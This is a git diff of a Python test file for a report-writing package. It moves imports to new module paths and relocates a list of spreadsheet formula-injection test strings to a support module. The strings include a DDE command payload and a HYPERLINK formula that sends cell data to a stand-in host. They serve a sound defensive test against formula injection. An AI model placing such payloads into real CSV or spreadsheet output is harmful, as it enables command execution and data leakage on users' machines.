@@ -11,11 +11,11 @@ from omegaconf import OmegaConf
 from PIL import Image
 
 from mile import report as program
-from mile.comparison import better, gather, markdown, offline, over_tasks
-from mile.intervals import interquartile_mean, mean, middle, probability_of_improvement, standard_error
 from mile.report import report
-from mile.runs import Outcome, read_runs, write_csv, write_table
-from tests.test_configs import composed
+from mile.reports.comparison import better, gather, markdown, offline, over_tasks
+from mile.reports.intervals import interquartile_mean, mean, middle, probability_of_improvement, standard_error
+from mile.reports.runs import Outcome, read_runs, write_csv, write_table
+from tests.support import HARMLESS, PAYLOADS, composed
 
 LINE = Outcome("drawer_open", "MILE", "", 0, "abc", "success", 0, True, 0.2, 100, 0, 0, 0.7, 1.0)
 
@@ -315,23 +315,6 @@ def test_a_report_that_is_interrupted_leaves_the_earlier_one_whole(tmp_path, mon
     with pytest.raises(KeyboardInterrupt):
         report([tmp_path / "other.csv"], tmp_path)
     assert (tmp_path / name).read_bytes() == before
-
-
-PAYLOADS = [
-    "=cmd|' /C calc'!A0",
-    "+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    '=HYPERLINK("http://example.com?"&A1, "look")',
-    "＝1+1",
-    "'=1+1",
-    "''=1+1",
-    "-",
-]
-HARMLESS = ["plain", "", "'tis", "1+1", " =1+1", "a, b", 'say "yes"', "two\r\nlines", "ν Ü"]
 
 
 def test_no_formula_starts_in_a_table_and_text_comes_back_as_it_was(tmp_path):
